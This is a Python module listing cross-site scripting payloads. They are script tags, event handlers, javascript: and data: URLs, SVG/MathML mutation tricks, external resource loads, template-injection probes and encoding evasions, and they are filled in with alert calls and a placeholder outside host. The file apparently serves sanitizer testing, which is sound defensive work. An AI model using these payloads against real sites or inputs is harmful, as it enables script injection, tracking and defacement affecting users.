"""Texts that try to run as a script, to fetch something, or to change a page.

``ALARM`` stands for a call that rings, and ``AWAY`` for an address outside.
"""

from __future__ import annotations

TEXTS = (
    # script tags
    "<script>ALARM</script>",
    "<SCRIPT>ALARM</SCRIPT >",
    "<script src='AWAY/x.js'></script>",
    "<scr<script>ipt>ALARM</scr</script>ipt>",
    "<script\x0c>ALARM</script>",
    "</script><script>ALARM</script>",
    "<script type=module>ALARM</script>",
    "<noscript><p title='</noscript><img src=x onerror=ALARM>'>",
    "<!--<script>ALARM//--></script><script>ALARM</script>",
    "<script>/*\u2028*/ALARM</script>",
    # event handlers
    "<img src=x onerror=ALARM>",
    "<img src=x onerror='ALARM'//",
    '"><img src=x onerror=ALARM>',
    "'><img src=x onerror=ALARM>",
    "<image src=x onerror=ALARM>",
    "<body onload=ALARM>",
    "<input autofocus onfocus=ALARM>",
    "<textarea autofocus onfocus=ALARM></textarea>",
    "<select autofocus onfocus=ALARM></select>",
    "<details open ontoggle=ALARM><summary>x</summary></details>",
    "<video><source onerror=ALARM></video>",
    "<audio src=x onerror=ALARM></audio>",
    "<div onmouseover=ALARM style='position:fixed;inset:0'>x</div>",
    "<marquee onstart=ALARM>x</marquee>",
    "<style onload=ALARM></style>",
    "<link rel=stylesheet href=x onerror=ALARM>",
    "<object data=x onerror=ALARM></object>",
    "<svg onload=ALARM>",
    "<svg><animate onbegin=ALARM attributeName=x dur=1s>",
    "<p onanimationstart=ALARM style='animation:x'>x</p><style>@keyframes x{}</style>",
    '" onfocus=ALARM autofocus tabindex=1 x="',
    "` onerror=ALARM `",
    "<a id=x tabindex=1 onfocus=ALARM autofocus>x</a>",
    "<form><button formaction=javascript:ALARM autofocus>x</button></form>",
    # javascript: and data: addresses
    "<a href='javascript:ALARM'>x</a>",
    "<a href='jav&#x0A;ascript:ALARM'>x</a>",
    "<a href=' &#1; javascript:ALARM'>x</a>",
    "<iframe src='javascript:parent.ALARM'></iframe>",
    "<iframe srcdoc='<script>parent.ALARM</script>'></iframe>",
    "<object data='javascript:ALARM'></object>",
    "<embed src='javascript:ALARM'>",
    "<iframe src='data:text/html,<script>parent.ALARM</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<a href='data:text/html,<script>ALARM</script>'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:ALARM'>",
    "<meta http-equiv=refresh content='0;url=AWAY/refresh'>",
    "<base href='AWAY/'>",
    "javascript:ALARM",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+ALARM'>",
    # SVG and MathML
    "<svg><script>ALARM</script></svg>",
    "<svg><script href='data:text/javascript,ALARM'></script></svg>",
    "<svg><a xlink:href='javascript:ALARM'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ALARM></svg>#x'></use></svg>",
    "<svg><foreignObject><img src=x onerror=ALARM></foreignObject></svg>",
    "<math><maction actiontype='statusline#AWAY' xlink:href='javascript:ALARM'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=ALARM&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=ALARM>'>",
    # styles and pictures from elsewhere
    "<style>body{display:none!important}*{background:url(AWAY/style)}</style>",
    "<style>@import 'AWAY/import.css';</style>",
    "<div style='background:url(AWAY/background);position:fixed;inset:0;z-index:9'>x</div>",
    "<link rel=stylesheet href='AWAY/sheet.css'>",
    "<link rel=prefetch href='AWAY/prefetch'>",
    "<img src='AWAY/picture'>",
    "<img srcset='AWAY/set 1x'>",
    "<video poster='AWAY/poster' src='AWAY/video' autoplay></video>",
    "<iframe src='AWAY/frame'></iframe>",
    "<table background='AWAY/table'><td>x</td></table>",
    "<form action='AWAY/form' method=post><input name=x><button autofocus>x</button></form>",
    "<form id=f action=javascript:ALARM></form><button form=f formtarget=_self>x</button>",
    "<a href='x' ping='AWAY/ping' download target=_top>x</a>",
    "<link rel=modulepreload href='AWAY/module.js'>",
    "<svg><set attributeName=href to=javascript:ALARM onbegin=ALARM></svg>",
    "<input type=image src='AWAY/input' formaction='AWAY/image'>",
    "<frameset onload=ALARM><frame src='AWAY/frames'></frameset>",
    "<template><script>ALARM</script></template><div><template shadowrootmode=open>"
    "<script>ALARM</script></template></div>",
    "</style></blockquote></div></section></main><img src='AWAY/closed' onerror=ALARM>",
    # Markdown, TeX and templates
    "[x](javascript:ALARM)",
    "![x](AWAY/markdown)",
    "![x](x\"onerror=\"ALARM)",
    "<javascript:ALARM>",
    "<data:text/html,<script>ALARM</script>>",
    "[x](<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>)",
    "[x](vbscript:ALARM) [x](&#106;avascript:ALARM) [x](java\tscript:ALARM)",
    "[x]: javascript:ALARM\n\n[x][x]",
    "```html\n<img src=x onerror=ALARM>\n```\n\n<img src=x onerror=ALARM>",
    "$\\href{javascript:ALARM}{x}$ $$\\unicode{<img src=x onerror=ALARM>}$$",
    "\\(\\require{html}\\href{javascript:ALARM}{x}\\)",
    "{{ ''.__class__.__mro__ }}{% raw %}<img src=x onerror=ALARM>{{7*7}}${ALARM}",
    # escapes and odd signs
    "&lt;script&gt;ALARM&lt;/script&gt;",
    "&#60;img src=x onerror=ALARM&#62;",
    "%3Cscript%3EALARM%3C/script%3E",
    "\\u003cscript\\u003eALARM\\u003c/script\\u003e",
    "\ufeff<script>ALARM</script>\u0000<img src=x onerror=ALARM>",
    "+ADw-script+AD4-ALARM+ADw-/script+AD4-",
    "\u202e<img src=x onerror=ALARM>\u202c",
    "＜script＞ALARM＜/script＞",
)  # fmt: skip
OUTSIDE = "http://outside.invalid"


def payloads() -> list[str]:
    """Return all texts, each with a number by which its alarm is known."""
    return [
        text.replace("ALARM", f"alert({number})").replace("AWAY", f"{OUTSIDE}/{number}")
        for number, text in enumerate(TEXTS)
    ]
